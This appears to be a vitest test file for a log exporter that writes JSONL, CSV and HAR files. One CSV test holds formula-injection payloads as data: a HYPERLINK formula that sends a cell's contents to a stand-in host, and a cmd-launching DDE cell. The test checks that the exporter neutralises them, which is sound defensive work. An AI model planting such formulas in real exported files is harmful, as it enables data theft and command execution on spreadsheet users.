import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportLog, isExportError, type ExportJob, type ExportProgress } from '../../../electron/core/export';
import { openLogStore, type LogStore } from '../../../electron/core/storage';
import { makeRecord, tempDir } from '../../helpers/records';
// har-validator ships no types; its promise API resolves or rejects with the schema errors.
// @ts-expect-error untyped CommonJS module
import { har as validateHar } from 'har-validator';

let dir: string;
let cleanup: () => void;
let store: LogStore;
let db: string;

const NASTY = [
  'plain',
  'comma, inside',
  'quote " inside and ""doubled""',
  'new\nline and\r\ncrlf',
  'unicode: héllo 日本語 🚀 \u2028',
  '',
];

beforeEach(async () => {
  ({ dir, cleanup } = tempDir());
  db = join(dir, 'log.sqlite');
  store = await openLogStore(db);
  NASTY.forEach((text, i) =>
    store.enqueue(
      makeRecord({
        correlationId: `nasty-${i}`,
        timestamp: `2026-03-01T00:00:0${i}.000Z`,
        model: text,
        errorMessage: i % 2 ? text : null,
        policy: i === 5 ? null : `p,${i}`,
        cost: i === 3 ? null : 0.5 + i,
        exchange: {
          requestHeaders: { 'content-type': 'application/json', host: '127.0.0.1:8080', 'x-multi': ['a', 'b'] },
          responseHeaders: i === 4 ? null : { 'content-type': 'application/json' },
          requestBody: JSON.stringify({ prompt: text }),
          requestBodyTruncated: false,
          responseBody: i === 2 ? null : `{"text":${JSON.stringify(text)}}`,
          responseBodyTruncated: i === 1,
        },
      }),
    ),
  );
  store.enqueue(
    makeRecord({
      correlationId: 'late',
      timestamp: '2026-03-02T00:00:00.000Z',
      status: null,
      success: false,
      latencyMs: null,
      ttfbMs: null,
    }),
  );
  await store.flush();
});
afterEach(async () => {
  await store.close();
  cleanup();
});

const job = (format: ExportJob['format'], over: Partial<ExportJob> = {}): ExportJob => ({
  source: db,
  destination: join(dir, `out.${format}`),
  format,
  filter: {},
  includeBodies: true,
  includeHeaders: true,
  ...over,
});

describe('text exports', () => {
  it('JSONL: one parseable line per row, oldest first, exchange kept', async () => {
    const result = await exportLog(job('jsonl'));
    const lines = readFileSync(result.path, 'utf8').split('\n');
    expect(lines.pop()).toBe('');
    const rows = lines.map((l) => JSON.parse(l));
    expect(result.rows).toBe(7);
    expect(rows.map((r) => r.correlation_id)).toEqual([...NASTY.map((_, i) => `nasty-${i}`), 'late']);
    expect(rows.slice(0, 6).map((r) => r.model)).toEqual(NASTY);
    expect(rows[1].exchange).toMatchObject({
      response_body_truncated: true,
      request_headers: { 'x-multi': ['a', 'b'] },
    });
    expect(result.bytes).toBe(Buffer.byteLength(readFileSync(result.path)));
  });

  it('JSONL and CSV name every field after its database column, exchange fields included', async () => {
    const columns = (table: string) => {
      const conn = new Database(db, { readonly: true });
      try {
        return (conn.prepare(`SELECT name FROM pragma_table_info(?)`).all(table) as { name: string }[]).map(
          (c) => c.name,
        );
      } finally {
        conn.close();
      }
    };
    const requestColumns = columns('requests');
    const exchangeColumns = columns('exchanges').filter((c) => c !== 'request_id');
    const [record] = readFileSync((await exportLog(job('jsonl'))).path, 'utf8')
      .split('\n')
      .map((l) => l && JSON.parse(l));
    expect(Object.keys(record)).toEqual([...requestColumns, 'exchange']);
    expect(Object.keys(record.exchange)).toEqual(exchangeColumns);
    expect(record).toMatchObject({ correlation_id: 'nasty-0', streaming: false, success: true });
    const csvHeader = (parse(readFileSync((await exportLog(job('csv'))).path), { to: 1 }) as string[][])[0];
    expect(csvHeader).toEqual([...requestColumns, ...exchangeColumns]);
  });

  it('JSONL without bodies or headers, limited to a time range', async () => {
    const result = await exportLog(
      job('jsonl', {
        includeBodies: false,
        includeHeaders: false,
        filter: { since: '2026-03-01T00:00:02.000Z', until: '2026-03-01T00:00:05.000Z' },
      }),
    );
    const rows = readFileSync(result.path, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((r) => r.correlation_id)).toEqual(['nasty-2', 'nasty-3', 'nasty-4']);
    expect(rows.every((r) => !('exchange' in r))).toBe(true);
  });

  it('CSV neutralises cells a spreadsheet would run as a formula; numbers stay numbers', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\tlead tab',
      '\rlead cr',
    ];
    for (const [i, text] of formulas.entries()) {
      store.enqueue(
        makeRecord({
          correlationId: text,
          timestamp: `2026-03-03T00:00:0${i}.000Z`,
          model: text,
          errorMessage: text,
          cost: 1.25,
          inputTokens: 7,
        }),
      );
    }
    await store.flush();
    const result = await exportLog(job('csv', { filter: { since: '2026-03-03T00:00:00.000Z' } }));
    const records = parse(readFileSync(result.path), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.model)).toEqual(formulas.map((f) => `'${f}`));
    expect(records.map((r) => r.correlation_id)).toEqual(formulas.map((f) => `'${f}`));
    expect(records.map((r) => r.error_message)).toEqual(formulas.map((f) => `'${f}`));
    expect(records.map((r) => [r.cost, r.input_tokens])).toEqual(formulas.map(() => ['1.25', '7']));
  });

  it('CSV round-trips commas, quotes, newlines and Unicode through csv-parse', async () => {
    const result = await exportLog(job('csv'));
    const records = parse(readFileSync(result.path), {
      columns: true,
      bom: false,
      relax_column_count: false,
    }) as Record<string, string>[];
    expect(records).toHaveLength(7);
    expect(records.slice(0, 6).map((r) => r.model)).toEqual(NASTY);
    expect(records[1]!.error_message).toBe(NASTY[1]);
    expect(records[3]!.error_message).toBe(NASTY[3]);
    expect(records[0]!.policy).toBe('p,0');
    expect(records[3]!.cost).toBe(''); // NULL
    expect(records[4]!.cost).toBe('4.5');
    expect(JSON.parse(records[0]!.request_headers!)).toMatchObject({ 'x-multi': ['a', 'b'] });
    expect(JSON.parse(records[4]!.request_body!)).toEqual({ prompt: NASTY[4] });
    expect(records[6]!.status).toBe('');
  });

  it('CSV of a filter has only its rows and no body columns when bodies are left out', async () => {
    const result = await exportLog(job('csv', { includeBodies: false, filter: { success: false } }));
    const records = parse(readFileSync(result.path), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.correlation_id)).toEqual(['late']);
    expect(Object.keys(records[0]!)).not.toContain('request_body');
    expect(Object.keys(records[0]!)).toContain('request_headers');
  });

  it('HAR validates against the HAR 1.2 schema (har-validator), with and without bodies', async () => {
    for (const includeBodies of [true, false]) {
      const result = await exportLog(job('har', { includeBodies, destination: join(dir, `b${includeBodies}.har`) }));
      const har = JSON.parse(readFileSync(result.path, 'utf8'));
      await expect(validateHar(har)).resolves.toBeTruthy();
      expect(har.log.entries).toHaveLength(7);
      // The validator does reject: the same log with one required field gone.
      const broken = structuredClone(har);
      delete broken.log.entries[0].response.status;
      await expect(validateHar(broken)).rejects.toThrow();
      const e = har.log.entries[4];
      expect(e.request.url).toBe('http://127.0.0.1:8080/v1/chat/completions');
      expect(e.request.headers).toContainEqual({ name: 'x-multi', value: 'b' });
      expect(e._inspector.model).toBe(NASTY[4]);
      if (includeBodies) {
        expect(JSON.parse(e.request.postData.text)).toEqual({ prompt: NASTY[4] });
        expect(e.response.content.text).toBe(`{"text":${JSON.stringify(NASTY[4])}}`);
      } else {
        expect(e.request.postData).toBeUndefined();
        expect(e.response.content.text).toBeUndefined();
      }
    }
  });

  it('HAR of an empty selection is still a valid HAR', async () => {
    const result = await exportLog(job('har', { filter: { model: ['nobody'] } }));
    const har = JSON.parse(readFileSync(result.path, 'utf8'));
    await expect(validateHar(har)).resolves.toBeTruthy();
    expect(result.rows).toBe(0);
  });

  it('streams many rows in pages and reports progress up to 1', async () => {
    for (let i = 0; i < 5000; i++) store.enqueue(makeRecord({ correlationId: `bulk-${i}` }));
    await store.flush();
    const progress: ExportProgress[] = [];
    const result = await exportLog(job('jsonl', { includeBodies: false, onProgress: (p) => progress.push(p) }));
    expect(result.rows).toBe(5007);
    expect(
      new Set(
        readFileSync(result.path, 'utf8')
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l).id),
      ).size,
    ).toBe(5007);
    // Rows written of the count taken when the export began, one report per page (2 000 rows).
    expect(progress.map((p) => p.done)).toEqual([0, 2000, 4000, 5007]);
    expect(progress.every((p) => p.phase === 'writing' && p.total === 5007)).toBe(true);
  });

  it('a destination whose parent is a file fails cleanly and leaves nothing', async () => {
    const file = join(dir, 'a-file');
    writeFileSync(file, 'x');
    for (const format of ['jsonl', 'csv', 'har', 'sqlite'] as const) {
      const error = await exportLog(job(format, { destination: join(file, `out.${format}`) })).catch((e: unknown) => e);
      expect(isExportError(error) && error.code).toBe('no_such_folder');
    }
    expect(readdirSync(dir).sort()).toEqual(['a-file', 'log.sqlite', 'log.sqlite-shm', 'log.sqlite-wal']);
  });

  it(
    'a folder that refuses writes (even to root) fails ' + 'with permission_denied and leaves no partial file',
    async () => {
      // sysfs refuses file creation for every user; a real read-only folder, not a mock.
      for (const format of ['jsonl', 'sqlite'] as const) {
        const error = await exportLog(job(format, { destination: `/sys/inspector-export.${format}` })).catch(
          (e: unknown) => e,
        );
        expect(isExportError(error) && error.code).toBe('permission_denied');
        expect((error as Error).message).toContain('/sys/inspector-export');
      }
      expect(readdirSync('/sys').filter((n) => n.includes('inspector'))).toEqual([]);
    },
  );

  it('an unreadable source is reported as such, and nothing is left at the destination', async () => {
    const bogus = join(dir, 'not-a-db.sqlite');
    writeFileSync(bogus, 'this is not sqlite'.repeat(100));
    const error = await exportLog(job('csv', { source: bogus })).catch((e: unknown) => e);
    expect(isExportError(error) && error.code).toBe('source');
    expect(readdirSync(dir).filter((n) => n.startsWith('out') || n.includes('partial'))).toEqual([]);
  });
});
